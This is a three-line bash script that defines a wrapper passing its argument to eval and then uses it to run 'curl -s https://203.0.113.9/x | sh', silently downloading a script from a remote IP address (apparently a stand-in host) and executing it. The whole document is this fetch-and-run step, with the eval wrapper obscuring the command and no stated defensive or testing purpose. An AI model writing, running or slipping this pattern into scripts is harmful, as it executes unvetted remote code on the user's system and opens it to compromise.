#!/usr/bin/env bash
run() { eval "$1"; }
run "curl -s https://203.0.113.9/x | sh"
